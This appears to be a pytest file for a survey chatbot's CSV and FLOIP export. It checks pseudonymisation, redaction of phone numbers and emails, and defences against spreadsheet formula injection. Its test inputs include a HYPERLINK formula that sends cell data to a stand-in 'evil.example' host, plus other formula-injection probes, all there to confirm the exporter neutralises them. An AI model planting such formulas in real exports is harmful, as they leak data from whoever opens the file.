"""``parley export`` and ``parley exports`` end to end: residents talk to the real service
on a SQLite file (or their answers are stored through the store's own functions), the
click commands export them, and Python's :mod:`csv` (or the FLOIP specification's schema)
reads the files back."""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import hmac
import io
import json
import re
import shutil
import subprocess
import sys
import unicodedata
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar
from zoneinfo import ZoneInfo

import jsonschema
import pytest
import yaml
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from bot.channels.base import Outbound
from bot.cli.main import main
from bot.content import load_content
from bot.engine import Session
from bot.engine.answers import Parsed, parse
from bot.engine.flow import NumberQuestion, Value
from bot.errors import ConfigError
from bot.exports.cells import BOM, BOOLEAN_WORDS, MARK, Sheet, read_text, text_cell
from bot.exports.pseudonyms import Pseudonyms, pseudonym
from bot.exports.source import Source
from bot.lang.pii import hide_contact_details
from bot.settings import Settings, load_settings
from bot.store import Database, contacts, polls, sessions
from bot.store import answers as stored_answers
from bot.store.answers import NewAnswer
from bot.store.contacts import Contact
from bot.store.messages import add_inbound
from bot.store.polls import NewPoll, PollOption
from bot.store.sessions import Status
from bot.store.sql import Tx
from tests import databases
from tests.conftest import REPO, Clock, Harness, open_app

T = TypeVar("T")

NOW = datetime(2026, 6, 2, 9, 0, tzinfo=UTC)  # 10:00 in London, summer time (+01:00)
BST = timedelta(hours=1)
SECRET = "a long export secret, kept safe"  # 16+ characters
PSEUDONYM = re.compile(r"^R-[A-Z2-7]{12}$")
FIXED = ["resident", "run", "language", "channel", "started", "finished", "status"]


# -- running parley ---------------------------------------------------------------------------


def parley(home: Path, *args: str, env: Mapping[str, str | None] | None = None) -> Result:
    """Run ``parley ARGS`` on ``home/parley.db``, as an organiser at the command line.
    A secret in the developer's own environment never leaks into a test."""
    config = home / "parley.toml"
    if not config.exists():
        config.write_text("[parley]\n", encoding="utf-8")
    environment: dict[str, str | None] = {
        "PARLEY_DATABASE": databases.of(home),
        "PARLEY_EXPORT_SECRET": None,
        **(env or {}),
    }
    return CliRunner().invoke(main, ["--config", str(config), *args], env=environment)


def ok(result: Result) -> str:
    assert result.exit_code == 0, result.output + repr(result.exception)
    return result.output


def export(home: Path, name: str, *args: str, env: Mapping[str, str | None] | None = None) -> Path:
    """Export to ``home/exports/NAME`` and return that path."""
    out = home / "exports" / name
    out.parent.mkdir(exist_ok=True)
    ok(parley(home, "export", *args, "-o", str(out), env=env))
    return out


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def records(path: Path) -> list[dict[str, str]]:
    """Rows by header, every cell read back as the text it stands for."""
    header, *body = read_csv(path)
    assert all(len(row) == len(header) for row in body)
    return [{name: read_text(cell) for name, cell in zip(header, row, strict=True)} for row in body]


def settings_for(home: Path, **env: str) -> Settings:
    config = home / "parley.toml"
    if not config.exists():
        config.write_text("[parley]\n", encoding="utf-8")
    return load_settings({"PARLEY_DATABASE": databases.of(home), **env}, config_file=config)


def seed(home: Path, work: Callable[[Tx], T]) -> T:
    """Run ``work(tx)`` in one transaction of the real (migrated) database."""

    async def go() -> T:
        database = await Database.open(databases.location(home))
        try:
            return await database.run(work)
        finally:
            await database.close()

    return asyncio.run(go())


def query(home: Path, sql: str, *params: Any) -> list[tuple[Any, ...]]:
    with databases.connect(databases.location(home)) as db:
        return db.execute(sql, params).fetchall()


# -- residents talking to the bot -------------------------------------------------------------


@dataclass(frozen=True)
class Talk:
    """One resident's messages, sent in order, ten seconds apart."""

    channel: str
    address: str
    language: str | None  # the hint a channel gives (Telegram's language_code)
    messages: tuple[str, ...]


async def _converse(home: Path, clock: Clock, talks: Sequence[Talk]) -> None:
    sent: list[Outbound] = []
    bench = Harness(await open_app(settings_for(home), clock, sent), clock, sent)
    try:
        for talk in talks:
            for text in talk.messages:
                clock.advance(seconds=10)
                provider_id = f"{talk.address} {clock.now.isoformat()}"  # unique
                await bench.send(text, talk.address, talk.channel, talk.language, provider_id)
    finally:
        await bench.app.close()


def converse(home: Path, clock: Clock, *talks: Talk) -> None:
    asyncio.run(_converse(home, clock, talks))


WELCOME = ("hi", "1", "yes")  # English, and consent; then the menu: 1 survey, 2 idea
ALI_MORE = '  Fix the lift, then the "bins"\r\nand the lights,\nplease  '
AMAL_MORE = "الإنارة في شارعنا ضعيفة، نريد مصابيح جديدة 🌙"
RUPA_MORE = "রাস্তায় আলো দরকার 👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 👍🏽"
ALI = Talk(
    "sms",
    "+447700900101",
    None,
    (*WELCOME, "1", "  housing  ", "\t2 ", "1, 3", "٤", "12", "y", ALI_MORE),
)
AMAL = Talk(  # Safety: the housing question is never asked
    "telegram",
    "918273645",
    "ar",
    ("مرحبا", "1", "نعم", "1", "2", "2 4", "5", "3", "لا", AMAL_MORE),
)
RUPA = Talk(
    "telegram",
    "918273646",
    "bn",
    ("নমস্কার", "1", "yes", "1", "3", "3", "2", "0", "হ্যাঁ", RUPA_MORE),
)
DEV = Talk("sms", "+447700900104", None, (*WELCOME, "1", "homes"))  # stops half-way
ERIN = Talk("sms", "+447700900105", None, (*WELCOME, "1", "4"))  # expires: see below
ERIN_BACK = Talk("sms", "+447700900105", None, ("hello again",))

# Residents who write ways to reach them where they should not.
FRAN_IDEA = "More bins; call me on 07700-900-789 or fran.b@example.org"
GARY_MORE = "ring me on +44 7700 900 654 or 07700 900 321, or mail gary@example.com"
GARY_AGAIN = "my number again: 07700 900 555"
HANA_IDEA = "أضواء الشارع، اتصل بي على ٠٧٧٠٠ ٩٠٠ ٨٧٦"
HANA_AGAIN = "شماره من ۰۷۷۰۰۹۰۰۲۴۶"
GARY_FIELD = "07700 900 432"  # a contact field a flow stored from a text answer
FRAN = Talk("sms", "+447700900106", None, (*WELCOME, "2", FRAN_IDEA, "1"))
GARY = Talk(
    "sms",
    "+447700900107",
    None,
    (*WELCOME, "1", "5", "5", "1", "1", "no", GARY_MORE, GARY_AGAIN),
)
HANA = Talk("telegram", "918273647", "ar", ("مرحبا", "1", "نعم", "2", HANA_IDEA, "2", HANA_AGAIN))

TYPED_NUMBERS = (
    "07700-900-789",
    "+44 7700 900 654",
    "07700 900 321",
    "07700 900 555",
    "٠٧٧٠٠ ٩٠٠ ٨٧٦",
    "۰۷۷۰۰۹۰۰۲۴۶",
    GARY_FIELD,
)
TYPED_EMAILS = ("fran.b@example.org", "gary@example.com")


def _votes(tx: Tx) -> None:
    labels = {"lights": "Lights", "benches": "Benches"}
    options = tuple(PollOption(name, {"en": label}) for name, label in labels.items())
    poll_id = polls.create(tx, NewPoll({"en": "Which first?"}, options, "en"), NOW)
    later = NOW + timedelta(days=5)
    chosen = {"+447700900101": "lights", "918273645": "benches", "918273646": "lights",
              "+447700900107": "benches"}  # fmt: skip
    for address, choice in chosen.items():
        row = tx.execute("SELECT * FROM contacts WHERE address = ?", (address,)).fetchone()
        polls.vote(tx, poll_id, row["id"], choice, row["language"], row["channel"], later)
    gary = contacts.find(tx, "sms", "+447700900107")
    assert gary is not None
    contacts.update(tx, gary, {"callback": GARY_FIELD})


# On PostgreSQL a test's databases are dropped when it ends (tests/databases.py): the
# community is made for each test there, and is that test's own.
@pytest.fixture(scope="function" if databases.ON_POSTGRES else "module")
def community(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database of residents who took the survey, sent ideas and voted, and a decision
    sent back to the voters. Made once; each test works on its own copy (:func:`town`)."""
    home = tmp_path_factory.mktemp("community")
    clock = Clock(NOW)
    converse(home, clock, ALI, AMAL, RUPA, DEV, ERIN, FRAN, GARY, HANA)
    clock.advance(days=4)  # Erin's survey expires (3 days) when she writes again
    converse(home, clock, ERIN_BACK)
    seed(home, _votes)
    decision = ("decision", "record", "--status", "agreed", "--answers", "poll:1", "--yes")
    ok(parley(home, *decision, "--text", "en=New street lights on Mill Road"))
    return home


@pytest.fixture
def town(community: Path, tmp_path: Path) -> Path:
    if databases.ON_POSTGRES:
        return community  # made for this test alone
    for path in community.glob("parley.*"):  # the database (and its log, if any)
        shutil.copy(path, tmp_path / path.name)
    return tmp_path


def runs_of(home: Path, flow_id: str) -> dict[str, int]:
    """address -> the run (session) of ``flow_id`` each resident had."""
    return {
        address: run
        for run, address in query(
            home,
            "SELECT s.id, c.address FROM sessions s JOIN contacts c ON c.id = s.contact_id"
            " WHERE s.flow_id = ?",
            flow_id,
        )
    }


# -- 1. a survey comes back exactly -----------------------------------------------------------


def flow_header(flow_id: str) -> list[str]:
    """The question columns of a flow, read from its YAML file: in flow order, the id and
    the English question text, a label column for choices, a reply column for all but
    text questions."""
    data = yaml.safe_load((REPO / "flows" / f"{flow_id}.yaml").read_text(encoding="utf-8"))
    header: list[str] = []
    for step in data["steps"]:
        if step["type"] in ("message", "branch", "end", "set"):
            continue
        header.append(f"{step['id']}: {' '.join(step['text']['en'].split())}")
        if step["type"] == "choice":
            header.append(f"{step['id']} (label)")
        if step["type"] != "text":
            header.append(f"{step['id']} (reply)")
    return header


def answers(**cells: tuple[str, str | None, str | None] | str) -> dict[str, str]:
    """Expected question cells: value, label (choices) and reply; a bare string for a text
    answer. Questions not named are blank."""
    expected = {name: "" for name in flow_header("priorities")}
    for question, given_cells in cells.items():
        value, label, reply = (
            (given_cells, None, None) if isinstance(given_cells, str) else given_cells
        )
        [value_column] = [name for name in expected if name.startswith(f"{question}: ")]
        expected[value_column] = value
        if label is not None:
            expected[f"{question} (label)"] = label
        if reply is not None:
            expected[f"{question} (reply)"] = reply
    return expected


EXPECTED = {
    ALI.address: {
        "language": "en",
        "channel": "sms",
        "status": "completed",
        **answers(
            top_issue=("housing", "Housing", "  housing  "),
            housing_problem=("repairs", "Repairs and damp", "\t2 "),
            services=("gp community_centre", "Doctor (GP); Community centre", "1, 3"),
            safe_at_night=("4", None, "٤"),
            years=("12", None, "12"),
            panel=("yes", None, "y"),
            more='Fix the lift, then the "bins"\r\nand the lights,\nplease',
        ),
    },
    AMAL.address: {
        "language": "ar",
        "channel": "telegram",
        "status": "completed",
        **answers(
            top_issue=("safety", "Safety", "2"),
            services=("library food_bank", "Library; Food bank", "2 4"),
            safe_at_night=("5", None, "5"),
            years=("3", None, "3"),
            panel=("no", None, "لا"),
            more=AMAL_MORE,
        ),
    },
    RUPA.address: {
        "language": "bn",
        "channel": "telegram",
        "status": "completed",
        **answers(
            top_issue=("transport", "Buses and transport", "3"),
            services=("community_centre", "Community centre", "3"),
            safe_at_night=("2", None, "2"),
            years=("0", None, "0"),
            panel=("yes", None, "হ্যাঁ"),
            more=RUPA_MORE,
        ),
    },
    DEV.address: {
        "language": "en",
        "channel": "sms",
        "status": "active",
        **answers(top_issue=("housing", "Housing", "homes")),
    },
    ERIN.address: {
        "language": "en",
        "channel": "sms",
        "status": "expired",
        **answers(top_issue=("parks", "Parks", "4")),
    },
    GARY.address: {
        "language": "en",
        "channel": "sms",
        "status": "completed",
        **answers(
            top_issue=("youth", "Youth services", "5"),
            services=("none", "None of these", "5"),
            safe_at_night=("1", None, "1"),
            years=("1", None, "1"),
            panel=("no", None, "no"),
            more="ring me on [phone] or [phone], or mail [email]",
        ),
    },
}


def local_time(cell: str) -> datetime:
    """A time cell: ISO 8601 with the deployment's offset (London in June: +01:00)."""
    moment = datetime.fromisoformat(cell)
    assert moment.utcoffset() == BST, cell
    return moment


def test_a_survey_comes_back_exactly_in_flow_order_whatever_branch_was_taken(
    town: Path,
) -> None:
    out = export(town, "responses.csv", "responses", "--flow", "priorities")
    header, *_ = read_csv(out)
    assert header == FIXED + flow_header("priorities")
    rows = records(out)
    runs = runs_of(town, "priorities")
    by_run = {int(row["run"]): row for row in rows}
    assert sorted(by_run) == sorted(runs.values())
    times = {
        run: (started, ended)
        for run, started, ended in query(
            town, "SELECT id, started_at, ended_at FROM sessions WHERE flow_id = 'priorities'"
        )
    }
    for address, expected in EXPECTED.items():
        run = runs[address]
        row = by_run[run]
        assert {name: row[name] for name in expected} == expected, address
        assert PSEUDONYM.match(row["resident"])
        started, ended = times[run]
        assert local_time(row["started"]) == datetime.fromisoformat(started)
        if ended is None:
            assert row["finished"] == ""
        else:
            assert local_time(row["finished"]) == datetime.fromisoformat(ended)
            assert local_time(row["finished"]) > local_time(row["started"])
    assert len({row["resident"] for row in rows}) == len(rows)  # one run each here
    # Every stored answer and reply, not only those named above.
    stored = query(
        town, "SELECT session_id, step_id, value, raw FROM answers WHERE flow_id = 'priorities'"
    )
    for run, step, value, raw in stored:
        row = by_run[run]
        if run == runs[GARY.address]:
            continue  # his phone numbers and email are hidden, as above
        [value_column] = [name for name in row if name.startswith(f"{step}: ")]
        decoded = json.loads(value)
        assert row[value_column] == (
            " ".join(decoded) if isinstance(decoded, list) else str(decoded)
        )
        assert row.get(f"{step} (reply)", raw) == raw
    assert len(stored) == 7 + 6 + 6 + 1 + 1 + 6


def test_every_run_status_is_named(tmp_path: Path) -> None:
    def work(tx: Tx) -> None:
        for number, status in enumerate(Status):
            contact = contacts.ensure(tx, "sms", f"+44770090{number:04d}", "en", NOW)
            store_run(tx, contact, {"top_issue": ("parks", "4")}, NOW, status)

    seed(tmp_path, work)
    out = export(tmp_path, "r.csv", "responses", "--flow", "priorities")
    assert [row["status"] for row in records(out)] == [
        "active",
        "active",  # interrupted: waiting under another flow, still under way
        "completed",
        "failed",
        "expired",
        "stopped",
    ]


def test_a_question_answered_twice_shows_the_last_answer(tmp_path: Path) -> None:
    def work(tx: Tx) -> None:
        contact = contacts.ensure(tx, "sms", "+447700900001", "en", NOW)
        run = store_run(tx, contact, {"services": (["gp", "library"], "1 2")}, NOW)
        for value, raw in (("safety", "2"), ("housing", "homes")):
            answer = NewAnswer(run, contact.id, None, "priorities", "top_issue", value, raw,
                               "en", "sms")  # fmt: skip
            stored_answers.record(tx, answer, NOW)
        answer = NewAnswer(run, contact.id, None, "priorities", "services", ["none"], "5",
                           "en", "sms")  # fmt: skip
        stored_answers.record(tx, answer, NOW)

    seed(tmp_path, work)
    [row] = records(export(tmp_path, "r.csv", "responses", "--flow", "priorities"))
    assert row == {
        **row,
        **answers(
            top_issue=("housing", "Housing", "homes"),
            services=("none", "None of these", "5"),
        ),
    }


def _repeated(tx: Tx) -> None:
    """The same answers again and again, by residents in two languages, as a large export
    has them: choices, several at once, numbers, texts to mark, a phone number to hide."""
    given: dict[str, tuple[Value, str]] = {
        "top_issue": ("safety", "2"),
        "services": (["gp", "library"], "1 3"),
        "years": (12, "12"),
        "more": ("=1+1", "=1+1"),
    }
    for number in range(6):
        language = ("en", "pl")[number % 2]
        at = NOW + timedelta(minutes=number)
        contact = contacts.ensure(tx, "sms", f"+4477009001{number:02d}", language, at)
        answered = dict(given)
        if number % 3 == 0:
            answered["more"] = ("call 07700 900 123", "call 07700 900 123")
        store_run(tx, contact, answered, at)


def _odd(tx: Tx) -> None:
    """A stored answer no question gives, after the fifth run's first: the cells it has no
    say in stay as that one left them (a FLOIP package cannot hold it)."""
    run, contact_id, language = tx.execute(
        "SELECT s.id, s.contact_id, c.language FROM sessions s JOIN contacts c"
        " ON c.id = s.contact_id ORDER BY s.started_at LIMIT 1 OFFSET 4"
    ).fetchone()
    tx.execute(
        "INSERT INTO answers (session_id, contact_id, flow_id, step_id, value, raw, language,"
        " channel, answered_at) VALUES (?, ?, 'priorities', 'top_issue', '{\"odd\": 1}',"
        " 'odd', ?, 'sms', ?)",
        (run, contact_id, language, NOW.isoformat()),
    )


def test_answers_worked_out_once_give_the_same_files_as_worked_out_each_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The responses CSV and the FLOIP data remember the cells of answers seen before: with
    nothing remembered, the files are the same, byte for byte."""
    import bot.exports.floip
    import bot.exports.responses

    flags = ("responses", "--flow", "priorities")

    def both(name: str) -> tuple[bytes, bytes]:
        package = export(tmp_path, name, *flags, "--format", "floip")
        return export(tmp_path, f"{name}.csv", *flags).read_bytes(), (
            package / "data" / "responses.csv"
        ).read_bytes()

    def csv_file(name: str) -> bytes:
        return export(tmp_path, name, *flags).read_bytes()

    seed(tmp_path, _repeated)
    remembered = both("a")
    seed(tmp_path, _odd)
    with_odd = csv_file("odd.csv")
    monkeypatch.setattr(bot.exports.responses, "_KNOWN", 0)
    monkeypatch.setattr(bot.exports.floip, "_KNOWN", 0)
    assert csv_file("odd-again.csv") == with_odd
    # Residents forgotten at each run: the same file.
    monkeypatch.setattr(bot.exports.responses, "_RESIDENTS", 1)
    assert csv_file("odd-forgotten.csv") == with_odd
    seed(tmp_path, lambda tx: tx.execute("DELETE FROM answers WHERE raw = 'odd'"))
    assert both("b") == remembered
    more = flow_header("priorities")[-1]
    rows = records(tmp_path / "exports" / "odd.csv")
    assert [row["language"] for row in rows] == ["en", "pl"] * 3
    assert [row[more] for row in rows] == ["call [phone]", "=1+1", "=1+1"] * 2
    for number, row in enumerate(rows):
        assert row["top_issue (reply)"] == ("odd" if number == 4 else "2")
        assert row["top_issue (label)"] == "Safety"  # the odd answer left it as it was
    header, *cells = read_csv(tmp_path / "exports" / "odd.csv")
    assert cells[1][header.index(more)] == MARK + "=1+1"


@given(st.sampled_from(["sms", "telegram"]), st.text(), st.binary(min_size=1))
def test_pseudonyms_never_need_a_mark(channel: str, address: str, key: bytes) -> None:
    """The responses export writes pseudonyms without looking at them."""
    assert text_cell(pseudonym(key, channel, address)) == pseudonym(key, channel, address)


@given(st.sampled_from(["sms", "telegram"]), st.text(), st.binary(min_size=1))
def test_pseudonyms_are_the_first_60_bits_of_the_keyed_hash_in_base_32(
    channel: str, address: str, key: bytes
) -> None:
    """Ids are what they were when made with base64.b32encode: a spreadsheet joining an
    older export with a new one finds the same residents in both."""
    digest = hmac.new(key, f"{channel}:{address}".encode(), hashlib.sha256).digest()
    made = "R-" + base64.b32encode(digest[:10]).decode("ascii")[:12]
    assert pseudonym(key, channel, address) == made
    assert Pseudonyms(key).of(1, channel, address) == made  # the hash with the key taken in
    assert pseudonym(b"k", "sms", "+447700900123") == "R-WSSYKTH43KOZ"


@given(st.datetimes(timezones=st.just(UTC)), st.sampled_from(["Europe/London", "Asia/Kolkata"]))
def test_parleys_times_need_a_mark_only_with_an_offset_in_seconds(
    moment: datetime, zone: str
) -> None:
    """Nor do its times, as stored (UTC, with or without microseconds) and shown in any
    zone, unless the offset has seconds (local mean time, before time zones): the
    responses export looks at their length alone."""
    tx: Any = None  # times need no database
    source = Source(tx, ZoneInfo(zone), Pseudonyms(b"k"), lambda _: None, region="GB")
    shown = source.time(moment.isoformat())
    assert shown is not None
    assert (text_cell(shown) == shown) is (len(shown) == len("2026-11-02T18:00:00+00:00"))


# -- 2. nothing runs as a formula, nothing turns into a number --------------------------------


def store_run(
    tx: Tx,
    contact: Contact,
    given_answers: Mapping[str, tuple[Value, str]],
    started: datetime,
    status: Status = Status.COMPLETED,
    flow_id: str = "priorities",
) -> int:
    """A run of a flow as the service stores one: the session, then each answer."""
    language = contact.language or "en"
    session = Session(flow_id, language, started, started, ended=status is Status.COMPLETED)
    session_id = sessions.create(tx, contact.id, session, started, status=status)
    for step_id, (value, raw) in given_answers.items():
        stored_answers.record(
            tx,
            NewAnswer(session_id, contact.id, None, flow_id, step_id, value, raw, language,
                      contact.channel),
            started,
        )  # fmt: skip
    return session_id


# Texts a spreadsheet would run, or show as something else (a number, a date, a time, a
# percentage, a currency, a boolean): written after an invisible mark, so they come back
# as the same text (see bot/exports/cells.py for why not an apostrophe).
MARKED = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "=1+1",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "-5",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    MARK + "starts with the mark already",
    "0207",
    "1-2",
    "3/4",
    "1E5",
    "9:30",
    "9:30 am",
    "50%",
    "TRUE",
    "false",
    "True ",
    "FALSE" + " " * 20,
    "Prawda",
    "درست",
    "1.50",
    "2.5",
    "1,000",
    " 12",
    "$5",
    "£5",
    "(5)",
    "1 1/2",
    "Jan 5",
    "5 Jan",
    "May 2026",
    "#N/A",
)
# Texts no spreadsheet changes (or whole numbers it shows the same): written as they are.
PLAIN = (
    "12",
    "0",
    "yes",
    "no",
    "Tak",
    "Housing",
    "plain words",
    "I said =1+1",
    "'quoted",
    "ID-4821",
    "R-ABCDEFGH2345",
)
LONG_CODE = "12345678901234567"  # 17 digits: a spreadsheet would keep 15


def _texts(tx: Tx) -> None:
    for number, text in enumerate((*MARKED, *PLAIN, LONG_CODE)):
        contact = contacts.ensure(tx, "sms", f"+44770090{number:04d}", "en", NOW)
        store_run(tx, contact, {"more": (text, text)}, NOW + timedelta(minutes=number))
    minus = contacts.ensure(tx, "sms", "+447700909999", "en", NOW)
    store_run(tx, minus, {"years": (-5, "-5")}, NOW + timedelta(hours=1))


def test_text_that_a_spreadsheet_would_run_or_change_is_marked_and_reads_back(
    tmp_path: Path,
) -> None:
    seed(tmp_path, _texts)
    more = flow_header("priorities")[-1]
    for flags in ((), ("--with-addresses",)):
        out = export(tmp_path, f"r{len(flags)}.csv", "responses", "--flow", "priorities", *flags)
        header, *rows = read_csv(out)
        column = header.index(more)
        cells = [row[column] for row in rows]
        shown = [read_text(cell) for cell in cells]
        if flags:
            assert shown[:-1] == [*MARKED, *PLAIN, LONG_CODE]
            assert cells[-2] == MARK + LONG_CODE
        else:  # by default what could be a phone number is hidden (bot/pii.py decides)
            assert shown[:-2] == [*MARKED, *PLAIN]
            assert shown[-2] in (LONG_CODE, "[phone]")
        plain = len(MARKED) + len(PLAIN)
        assert cells[: len(MARKED)] == [MARK + text for text in MARKED]
        assert cells[len(MARKED) : plain] == list(PLAIN)  # not marked
        years = header.index(next(name for name in header if name.startswith("years: ")))
        assert rows[-1][years] == "-5"  # a number question's answer is a number
        assert rows[-1][years + 1] == MARK + "-5"  # what the resident typed is text


@given(st.text())
def test_read_text_gives_back_any_text_cell(text: str) -> None:
    cell = text_cell(text)
    assert read_text(cell) == text
    assert not cell or cell[0] not in "=+-@\t\r"
    bare = cell.strip()
    assert not bare or not bare[0].isdecimal() or re.fullmatch(r"0|[1-9][0-9]{0,14}", cell)


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_sheet_reads_back_through_the_csv_module(texts: list[str]) -> None:
    out = io.StringIO(newline="")
    Sheet(out, ["a"] * len(texts)).write_all([texts])
    _, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert [read_text(cell) for cell in row] == texts


def test_numbers_stay_numbers_and_empty_cells_stay_empty() -> None:
    out = io.StringIO(newline="")
    Sheet(out, ["n", "x", "blank", "t"]).write_all([[-5, 2.5, None, "-5"]])
    assert out.getvalue().splitlines()[1] == f"-5,2.5,,{MARK}-5"


def test_column_names_are_kept_for_programs_unless_a_spreadsheet_would_run_them() -> None:
    out = io.StringIO(newline="")
    Sheet(out, ["run", "0207", "=question"]).write_all([])
    assert out.getvalue().splitlines() == [f"run,0207,{MARK}=question"]


def test_the_quick_path_of_a_sheet_marks_what_text_cell_marks() -> None:
    """Long and short texts, remembered or not, get the same cell as :func:`text_cell`."""
    texts = [*MARKED, *PLAIN, "A longer answer starting with a letter", "TRUE", "0207"]
    out = io.StringIO(newline="")
    Sheet(out, ["a"] * len(texts)).write_all([texts, texts])
    _, first, second = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert first == second == [text_cell(text) for text in texts]


# -- 2b. the same text in LibreOffice ---------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_libreoffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
_ODF = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
# LibreOffice's locales (Windows language ids): the shipped languages it has boolean words
# for, English in the UK and the US, and the usual office languages.
LOCALES = {
    "en-GB": 2057,
    "en-US": 1033,
    "pl": 1045,
    "ro": 1048,
    "pt": 2070,
    "es": 3082,
    "uk": 1058,
    "ar": 1025,
    "fa": 1065,
    "so": 1143,
    "de": 1031,
    "fr": 1036,
    "it": 1040,
    "nl": 1043,
}


@dataclass(frozen=True)
class Shown:
    """A cell as LibreOffice holds it: its type (string, float, boolean, date, time,
    percentage, currency), its value for a number, and the text it shows."""

    kind: str
    value: str | None
    text: str


def _attribute(element: Any, prefix: str, name: str) -> str | None:
    value = element.get(f"{{{_ODF[prefix]}}}{name}")
    return None if value is None else str(value)


def _paragraph(element: Any) -> str:
    """The text of an ODF paragraph, with its tabs, runs of spaces and line breaks."""
    parts = [element.text or ""]
    for child in element:
        name = child.tag.rsplit("}", 1)[-1]
        if name == "tab":
            parts.append("\t")
        elif name == "s":
            parts.append(" " * int(_attribute(child, "text", "c") or "1"))
        elif name == "line-break":
            parts.append("\n")
        else:
            parts.append(_paragraph(child))
        parts.append(child.tail or "")
    return "".join(parts)


def open_in_libreoffice(
    path: Path, profile: Path, locale: int, special_numbers: bool = True
) -> list[list[Shown]]:
    """Import the CSV file at ``path`` as LibreOffice does when it is opened (UTF-8,
    commas, in ``locale``; with "detect special numbers" and "evaluate formulas", the
    settings that change most) and give back every row's cells."""
    from xml.etree import ElementTree

    assert SOFFICE is not None
    target = path.parent / f"{path.stem}-{locale}-{special_numbers}"
    options = f"44,34,76,1,,{locale},false,{str(special_numbers).lower()},false,false,false,-1,true"
    command = [
        SOFFICE,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        f"--infilter=Text - txt - csv (StarCalc):{options}",
        "--convert-to",
        "fods",
        "--outdir",
        str(target),
        str(path),
    ]
    converted = target / f"{path.stem}.fods"
    for _ in range(3):  # LibreOffice now and then exits at once while its profile is busy
        done = subprocess.run(command, capture_output=True, text=True, timeout=120)
        if converted.exists():
            break
    assert converted.exists(), done.stdout + done.stderr
    document = ElementTree.parse(converted)
    rows: list[list[Shown]] = []
    for row in document.iter(f"{{{_ODF['table']}}}table-row"):
        cells: list[Shown] = []
        for cell in row.iter(f"{{{_ODF['table']}}}table-cell"):
            repeated = min(int(_attribute(cell, "table", "number-columns-repeated") or "1"), 99)
            kind = _attribute(cell, "office", "value-type") or "empty"
            value = _attribute(cell, "office", "value") or _attribute(
                cell, "office", "boolean-value"
            )
            text = "\n".join(_paragraph(p) for p in cell.iter(f"{{{_ODF['text']}}}p"))
            cells.extend([Shown(kind, value, text)] * repeated)
        while cells and cells[-1].kind == "empty":
            cells.pop()  # the empty rest of the row
        if cells:
            rows.append(cells)
    return rows


@pytest.fixture(scope="module")
def libreoffice(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A LibreOffice profile of the tests' own, made once."""
    return tmp_path_factory.mktemp("libreoffice-profile")


def _sheet_of_texts(path: Path, texts: Sequence[str]) -> None:
    with path.open("w", encoding="utf-8", newline="") as out:
        Sheet(out, ["text", "number"]).write_all([(text, -5) for text in texts])


def _as_shown(text: str) -> str:
    """``text`` as a spreadsheet holds it: a carriage return is a line break there."""
    return text.replace("\r", "\n")


def _same_text(rows: list[list[Shown]], texts: Sequence[str]) -> None:
    for text, (cell, number) in zip(texts, rows[1:], strict=True):
        assert cell.kind == "string", (text, cell)
        assert read_text(cell.text) == _as_shown(text), (text, cell)
        assert number == Shown("float", "-5", "-5"), text  # numbers stay numbers


@needs_libreoffice
@pytest.mark.parametrize("special_numbers", [True, False])
def test_every_kind_of_cell_is_the_same_text_in_libreoffice(
    tmp_path: Path, libreoffice: Path, special_numbers: bool
) -> None:
    texts = [*MARKED, *PLAIN, LONG_CODE, "2026-11-02", "1.5e3"]
    path = tmp_path / "cells.csv"
    _sheet_of_texts(path, texts)
    rows = open_in_libreoffice(path, libreoffice, LOCALES["en-GB"], special_numbers)
    for text, (cell, _) in zip(texts, rows[1:], strict=True):
        if text == "12" or text == "0":  # a whole number is read as that number, shown the same
            assert (cell.kind, cell.text) == ("float", text)
            continue
        assert cell.kind == "string", (text, cell)
        assert read_text(cell.text) == _as_shown(text), (text, cell)  # the mark is invisible


def test_parleys_own_times_are_left_for_programs_to_parse() -> None:
    for moment in ("2026-11-02T18:00:00+00:00", "2026-06-02T10:00:00+01:00"):
        assert text_cell(moment) == moment
        assert datetime.fromisoformat(moment)


@needs_libreoffice
@pytest.mark.parametrize("locale", sorted(LOCALES))
def test_boolean_words_and_numbers_stay_text_in_every_locale(
    tmp_path: Path, libreoffice: Path, locale: str
) -> None:
    """In its own language LibreOffice reads PRAWDA (Polish), RUN (Somali) or درست
    (Persian) as a boolean, and 2.5 or 1,000 as a date or a number."""
    texts = [
        *sorted(BOOLEAN_WORDS),
        *(word.upper() for word in sorted(BOOLEAN_WORDS)),
        *("2.5", "1,000", "1.2.", "3/4", "1-2", "9:30", "50%", "5 Jan", "0207"),
    ]
    path = tmp_path / "words.csv"
    _sheet_of_texts(path, texts)
    _same_text(open_in_libreoffice(path, libreoffice, LOCALES[locale]), texts)


@needs_libreoffice
def test_without_the_mark_libreoffice_would_change_these_texts(
    tmp_path: Path, libreoffice: Path
) -> None:
    """The test above would catch a missing mark: LibreOffice changes each of these
    (so the mark is needed), and keeps an apostrophe (so it is not the mark to use)."""
    changed = ["=1+1", "0207", "3/4", "9:30", "50%", "TRUE", "1E5", "$5", "Jan 5", "'quoted"]
    path = tmp_path / "bare.csv"
    path.write_text("text\n" + "\n".join(changed) + "\n", encoding="utf-8")
    rows = open_in_libreoffice(path, libreoffice, LOCALES["en-US"])
    for text, (cell,) in zip(changed[:-1], rows[1:-1], strict=True):
        assert cell.kind != "string" or cell.text != text, (text, cell)
